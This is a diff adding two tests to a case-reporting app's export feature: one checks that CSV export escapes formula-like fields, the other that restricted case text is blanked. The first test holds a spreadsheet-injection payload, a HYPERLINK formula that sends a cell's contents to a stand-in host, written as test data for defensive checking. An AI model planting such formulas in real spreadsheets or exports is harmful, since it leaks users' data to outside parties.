@@ -128,3 +128,32 @@ def test_the_command_line_refuses_an_account_that_may_not_export(db, runner, mak
     assert result.exit_code == 1
     assert "not an enabled supervisor or admin" in result.output
     assert _log(db) == []
+
+
+def test_a_report_written_as_a_formula_stays_text_in_the_csv(db, login_as, make_case):
+    make_case(category="SEC", level=2, description='=HYPERLINK("http://x.example/?"&A2,"open")')
+    make_case(category="SEC", level=2, description="+243 pays 5000 francs", title="@chief")
+    client, _ = login_as("supervisor")
+    rows = list(csv.DictReader(io.StringIO(client.get("/cases/export.csv").get_data(as_text=True))))
+    descriptions = {r["description"] for r in rows}
+    assert '\'=HYPERLINK("http://x.example/?"&A2,"open")' in descriptions
+    assert "'+243 pays 5000 francs" in descriptions and "'@chief" in {r["title"] for r in rows}
+    # JSON Lines is data, not a spreadsheet: kept as written
+    lines = client.get("/cases/export.jsonl").get_data(as_text=True)
+    assert '"description": "=HYPERLINK' in lines
+
+
+def test_restricted_cases_are_exported_without_their_text(db, login_as, make_case):
+    case = make_case(
+        category="SA-SGBV",
+        level=1,
+        title="Restricted title",
+        description="Restricted report text",
+        location_text="Behind the depot",
+    )
+    client, _ = login_as("supervisor")
+    body = client.get("/cases/export.csv").get_data(as_text=True)
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["reference"] == case.reference and row["restricted"] == "True"
+    assert (row["title"], row["description"], row["location"]) == ("", "", "")
+    assert "Restricted report text" not in body and "Behind the depot" not in body
